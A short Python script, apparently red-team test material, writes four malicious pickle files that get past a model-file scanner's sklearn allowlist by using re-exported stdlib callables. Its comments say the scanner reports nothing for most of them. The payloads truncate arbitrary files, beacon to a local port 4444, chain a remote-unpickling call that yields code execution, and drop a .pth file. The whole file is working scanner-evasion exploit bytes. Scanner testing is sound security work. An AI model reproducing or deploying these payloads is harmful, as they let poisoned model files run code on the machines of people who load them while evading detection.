"""Globals that moat's SAFE_PREFIXES ('sklearn.' + uppercase name) accept, but that are
re-exported stdlib callables (gzip.GzipFile, multiprocessing.connection.Client, ...).
Written only; never loaded."""
import os
O = os.path.dirname(os.path.abspath(__file__)) + "/"
def w(n, d): open(O + n, "wb").write(d)
# S1: gzip.GzipFile(path, 'wb') via sklearn.datasets._covtype: creates/truncates any file the
# user can write and writes a gzip header into it. Zero findings.
w("s1_gzipfile_write.pkl", b"csklearn.datasets._covtype\nGzipFile\n(V/tmp/redteam/PWNED_truncated_by_model\nVwb\ntR.")
# S2: multiprocessing.connection.Client(('127.0.0.1', 4444)) via sklearn.callback._transport:
# opens a TCP connection to an attacker-chosen host at load time (beacon / SSRF). Zero findings.
w("s2_mp_client_connect.pkl", b"\x80\x02csklearn.callback._transport\nClient\nX\t\x00\x00\x00127.0.0.1M\x5c\x11\x86\x85R.")
# S3: ... then Connection.recv() on it, which unpickles whatever the attacker's server sends
# (remote code execution); only the dotted name is reported, as medium.
w("s3_mp_client_recv_rce.pkl", b"\x80\x04csklearn.callback._transport\nConnection.recv\ncsklearn.callback._transport\nClient\nX\t\x00\x00\x00127.0.0.1M\x5c\x11\x86\x85R\x85R.")
# S4: tempfile.NamedTemporaryFile(dir=..., delete=False) via sklearn.datasets._base: creates a file
w("s4_namedtempfile.pkl", b"\x80\x02csklearn.datasets._base\nNamedTemporaryFile\n(Vwb\nJ\xff\xff\xff\xffNNV.pth\nVpwned_\nV/tmp/redteam\n\x89tR.")
print("ok")
